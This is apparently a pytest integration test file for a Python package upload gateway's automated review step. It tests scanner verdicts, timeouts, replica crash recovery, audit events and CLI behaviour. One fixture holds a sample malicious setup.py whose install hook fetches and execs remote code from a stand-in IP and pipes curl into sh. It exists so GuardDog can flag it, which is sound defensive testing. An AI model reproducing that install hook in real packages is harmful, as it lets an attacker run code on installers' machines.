"""The review step (R-W11, python/peps#5070: automated review while ``processing``, an adverse
result puts the session in ``error``), against real SeaweedFS and pypiserver: a scanner
script as a real subprocess, and GuardDog from PyPI when it installs here."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from gateway.app import create_app
from gateway.devstack import Server
from gateway.settings import Settings
from tests.conftest import ALICE
from tests.distributions import build_sdist, build_wheel, sha256_of
from tests.integration.conftest import META, Api, index_files, make_api, problem
from tests.integration.replicas import (
    HEADERS,
    create_session,
    start_replica,
    upload_all,
    wait_status,
)
from tests.integration.test_audit import audited_settings, auditor, by_action, journal

# The audit journal's fixtures (a principal allowed to read it).
audited_settings, auditor = audited_settings, auditor

SIGNATURE = b"REVIEW-TEST-SIGNATURE-0123456789"

# A scanner as ClamAV or YARA behave: findings on stdout, exit 1; clean: exit 0. It notes
# each run in a log, so that a test can count them.
SCANNER = f"""
import sys, time, pathlib
path, log, pause = sys.argv[1], pathlib.Path(sys.argv[2]), float(sys.argv[3])
log.open("a").write("start\\n")
time.sleep(pause)
if {SIGNATURE!r} in pathlib.Path(path).read_bytes():
    print(pathlib.Path(path).name + ": " + {SIGNATURE.decode()!r} + " FOUND")
    sys.exit(1)
print("OK")
log.open("a").write("done\\n")
"""


def scanner(tmp_path: Path, pause: float = 0.0) -> tuple[list[str], Path]:
    script = tmp_path / "scanner.py"
    script.write_text(SCANNER)
    log = tmp_path / "scanner.log"
    return [sys.executable, str(script), "{file}", str(log), str(pause)], log


@pytest.fixture
async def reviewed(aiohttp_client, make_settings, project_name, tmp_path):  # type: ignore[no-untyped-def]
    command, _ = scanner(tmp_path, pause=1.0)
    settings: Settings = make_settings(
        policy={"projects": [{"match": project_name, "review": command}], "review_timeout": 30}
    )
    client = await aiohttp_client(create_app(settings, run_sweeper=False))
    return Api(client, settings, ALICE.authorization)


async def wait_for(api: Api, session: dict[str, Any], wanted: set[str]) -> dict[str, Any]:
    deadline = time.monotonic() + 60
    while True:
        status = await api.status(session["links"]["session"])
        if status["status"] in wanted or time.monotonic() > deadline:
            return status
        await asyncio.sleep(0.05)


async def test_a_failing_review_puts_the_session_in_error_and_a_replaced_file_publishes(  # type: ignore[no-untyped-def]
    reviewed, pypiserver: Server, project_name: str, tmp_path: Path
) -> None:
    api: Api = reviewed
    (tmp_path / "bad").mkdir()
    (tmp_path / "good").mkdir()
    bad = build_wheel(tmp_path / "bad", project_name, "1.0", payload=SIGNATURE)
    good = build_wheel(tmp_path / "good", project_name, "1.0", payload=b"harmless")
    session = await api.create_session(project_name)

    await api.upload(session, bad)  # completes at once: the review runs after
    assert (await api.status(session["links"]["session"]))["status"] == "processing"
    publishing = await problem(
        await api.post_json(session["links"]["publish"], {"meta": META}), 409
    )
    assert publishing["type"].endswith("review-in-progress")

    status = await wait_for(api, session, {"error"})
    assert status["status"] == "error", status
    finding = f"{bad.name}: {SIGNATURE.decode()} FOUND"
    assert any(finding in notice for notice in status["notices"]), status
    assert any(finding in n for n in status["files"][bad.name]["notices"]), status
    refused = await problem(await api.post_json(session["links"]["publish"], {"meta": META}), 409)
    assert refused["type"].endswith("release-gates-unmet")
    assert finding in refused["detail"]

    await api.upload(session, good)  # the same filename: replaces the flagged file
    assert (await wait_for(api, session, {"open"}))["status"] == "open"
    published = await api.post_json(session["links"]["publish"], {"meta": META})
    assert published.status == 201, await published.text()
    assert await index_files(pypiserver, project_name) == {good.name: sha256_of(good)}


async def test_a_review_command_that_outlives_its_timeout_fails(  # type: ignore[no-untyped-def]
    aiohttp_client, make_settings, project_name: str, tmp_path: Path
) -> None:
    command, _ = scanner(tmp_path, pause=30)
    settings: Settings = make_settings(
        policy={"projects": [{"match": project_name, "review": command}], "review_timeout": 1}
    )
    api = Api(
        await aiohttp_client(create_app(settings, run_sweeper=False)), settings, ALICE.authorization
    )
    session = await api.create_session(project_name)
    await api.upload(session, build_wheel(tmp_path, project_name, "1.0"))
    status = await wait_for(api, session, {"error"})
    assert status["status"] == "error"
    assert any("did not finish in 1s" in notice for notice in status["notices"]), status


async def test_without_a_review_policy_a_completed_file_leaves_the_session_open(  # type: ignore[no-untyped-def]
    aiohttp_client, make_settings, project_name: str, tmp_path: Path
) -> None:
    settings: Settings = make_settings()
    api = Api(await aiohttp_client(create_app(settings, run_sweeper=False)), settings, "")
    api.authorization = ALICE.authorization
    session = await api.create_session(project_name)
    await api.upload(session, build_wheel(tmp_path, project_name, "1.0"))
    assert (await api.status(session["links"]["session"]))["status"] == "open"


async def test_a_review_running_when_its_gateway_is_killed_is_finished_by_another_replica(
    seaweedfs: Server,
    pypiserver: Server,
    principal_settings: list[dict[str, Any]],
    project_name: str,
    tmp_path: Path,
) -> None:
    """kill -9 mid-review: the review's lease lapses, and the sweep of a replica on the same
    bucket runs it again (R-W1); its verdict opens the session, which then publishes."""
    command, log = scanner(tmp_path, pause=3.0)
    policy = (
        "[policy]\nreview_timeout = 5\n[[policy.projects]]\n"
        f"match = {project_name!r}\nreview = {json.dumps(command)}\n"
    )
    prefix = "review-crash-" + project_name
    wheel = build_wheel(tmp_path, project_name, "1.0")
    first = start_replica(tmp_path, seaweedfs, pypiserver, prefix, principal_settings, policy)
    try:
        async with aiohttp.ClientSession() as http:
            session = await create_session(http, first.api, project_name)
            await upload_all(http, session, [wheel])
            status = await wait_status(http, session["links"]["session"], {"processing"}, 10)
            assert status["status"] == "processing", status
            for _ in range(100):  # the scanner has started (a Python interpreter's start)
                if log.exists() and "start" in log.read_text():
                    break
                await asyncio.sleep(0.05)
            first.process.send_signal(signal.SIGKILL)
            first.process.wait()
            assert "done" not in log.read_text(), "the review finished before the crash"

            second = start_replica(
                tmp_path, seaweedfs, pypiserver, prefix, principal_settings, policy
            )
            try:
                url = second.on(session["links"]["session"])
                status = await wait_status(http, url, {"open", "error"}, 60)
                assert status["status"] == "open", status
                assert log.read_text().count("start") == 2  # run again, not just waited out
                async with http.post(
                    second.on(session["links"]["publish"]), json={"meta": META}, headers=HEADERS
                ) as response:
                    assert response.status in (201, 202), await response.text()
                status = await wait_status(http, url, {"published", "error"})
                assert status["status"] == "published", status
            finally:
                second.process.terminate()
                second.process.wait(30)
    finally:
        if first.process.poll() is None:
            first.process.kill()
    assert await index_files(pypiserver, project_name) == {wheel.name: sha256_of(wheel)}


# What GuardDog's rules look for in an sdist: a setup.py that downloads code and runs it.
MALICIOUS_SETUP = b"""import base64, os, urllib.request
from setuptools import setup
from setuptools.command.install import install

class Post(install):
    def run(self):
        code = urllib.request.urlopen("http://203.0.113.7/payload.py").read()
        exec(base64.b64decode(code))
        os.system("curl -s http://203.0.113.7/x.sh | sh")
        install.run(self)

setup(cmdclass={"install": Post})
"""


@pytest.fixture(scope="session")
def guarddog() -> str:
    """GuardDog from PyPI, in a virtualenv of its own: its pins (a newer botocore among them)
    do not fit beside the gateway's aiobotocore. It scans offline; its typosquatting lists,
    which it would download, are not needed for these rules."""
    found = os.environ.get("GUARDDOG") or shutil.which("guarddog")
    if found:
        return found
    home = Path.home() / ".cache" / "upload-gateway-tests" / "guarddog"
    program = home / "bin" / "guarddog"
    if not program.exists():
        subprocess.run([sys.executable, "-m", "venv", str(home)], check=True)
        pip = [str(home / "bin" / "pip"), "install", "-q", "guarddog"]
        installed = subprocess.run(pip, capture_output=True, text=True, timeout=900)
        if installed.returncode != 0:
            pytest.skip(f"GuardDog does not install here: {installed.stderr[-500:]}")
    return str(program)


async def test_guarddog_flags_a_download_and_execute_sdist_and_passes_a_clean_one(  # type: ignore[no-untyped-def]
    aiohttp_client,
    make_settings,
    guarddog: str,
    pypiserver: Server,
    project_name: str,
    tmp_path: Path,
) -> None:
    command = [guarddog, "pypi", "scan", "--exit-non-zero-on-finding", "{file}"]
    settings: Settings = make_settings(
        policy={"projects": [{"match": project_name, "review": command}], "review_timeout": 120}
    )
    api = Api(await aiohttp_client(create_app(settings, run_sweeper=False)), settings, "")
    api.authorization = ALICE.authorization
    (tmp_path / "bad").mkdir()
    (tmp_path / "good").mkdir()
    bad = build_sdist(tmp_path / "bad", project_name, "1.0", members={"setup.py": MALICIOUS_SETUP})
    good = build_sdist(tmp_path / "good", project_name, "1.0")
    session = await api.create_session(project_name)

    await api.upload(session, bad)
    status = await wait_for(api, session, {"error", "open"})
    assert status["status"] == "error", status
    assert any("download-and-execute" in notice for notice in status["notices"]), status

    await api.upload(session, good)
    status = await wait_for(api, session, {"open"})
    assert status["status"] == "open", status
    published = await api.post_json(session["links"]["publish"], {"meta": META})
    assert published.status == 201, await published.text()
    assert await index_files(pypiserver, project_name) == {good.name: sha256_of(good)}


async def test_each_verdict_is_an_audit_event(  # type: ignore[no-untyped-def]
    aiohttp_client, audited_settings, project_name: str, tmp_path: Path
) -> None:
    command, _ = scanner(tmp_path)
    settings = audited_settings(policy={"projects": [{"match": project_name, "review": command}]})
    api = await make_api(aiohttp_client, settings)
    (tmp_path / "bad").mkdir()
    (tmp_path / "good").mkdir()
    bad = build_wheel(tmp_path / "bad", project_name, "1.0", payload=SIGNATURE)
    good = build_wheel(tmp_path / "good", project_name, "1.0")
    session = await api.create_session(project_name)
    await api.upload(session, bad)
    assert (await wait_for(api, session, {"error"}))["status"] == "error"
    await api.upload(session, good)
    assert (await wait_for(api, session, {"open"}))["status"] == "open"

    events = by_action(await journal(api, project=project_name))
    [failed] = events["review.failed"]
    assert failed["outcome"] == "refused"
    assert f"{SIGNATURE.decode()} FOUND" in failed["detail"]
    assert failed["files"] == [{"filename": bad.name, "sha256": sha256_of(bad)}]
    [passed] = events["review.passed"]
    assert passed["files"] == [{"filename": good.name, "sha256": sha256_of(good)}]


@pytest.fixture
async def live(live_gateway, project_name: str, tmp_path: Path) -> Api:  # type: ignore[no-untyped-def]
    """A gateway on a real port (for the CLI) that reviews the project's files."""
    command, _ = scanner(tmp_path, pause=1.0)
    policy = {"projects": [{"match": project_name, "review": command}]}
    return await live_gateway(policy=policy)  # type: ignore[no-any-return]


async def test_the_cli_publish_waits_for_the_review_then_publishes(  # type: ignore[no-untyped-def]
    cli, pypiserver: Server, project_name: str, tmp_path: Path
) -> None:
    wheel = build_wheel(tmp_path, project_name, "1.0")
    code, _, err = await cli.publish(str(wheel))
    assert code == 0, err
    assert await index_files(pypiserver, project_name) == {wheel.name: sha256_of(wheel)}


async def test_the_cli_publish_reports_a_failed_review(  # type: ignore[no-untyped-def]
    cli, pypiserver: Server, project_name: str, tmp_path: Path
) -> None:
    wheel = build_wheel(tmp_path, project_name, "1.0", payload=SIGNATURE)
    code, _, err = await cli.publish(str(wheel))
    assert code != 0
    assert f"{wheel.name}: {SIGNATURE.decode()} FOUND" in err
    assert await index_files(pypiserver, project_name) == {}
